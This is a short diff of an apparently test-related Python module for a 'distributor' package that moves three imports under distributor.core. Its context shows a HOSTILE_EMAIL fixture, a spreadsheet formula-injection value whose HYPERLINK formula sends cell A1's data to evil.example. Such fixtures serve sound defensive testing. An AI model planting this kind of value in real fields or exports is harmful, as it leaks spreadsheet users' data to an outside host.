@@ -6,9 +6,9 @@ from __future__ import annotations
 from dataclasses import dataclass
 from datetime import datetime, timedelta
 
-from distributor.config import Settings
-from distributor.db import session_scope
-from distributor.models import Delivery, Release, Subscriber, utcnow
+from distributor.core.config import Settings
+from distributor.core.db import session_scope
+from distributor.core.models import Delivery, Release, Subscriber, utcnow
 
 HOSTILE_EMAIL = '=HYPERLINK("https://evil.example/?d="&A1,"x")@example.com'
 
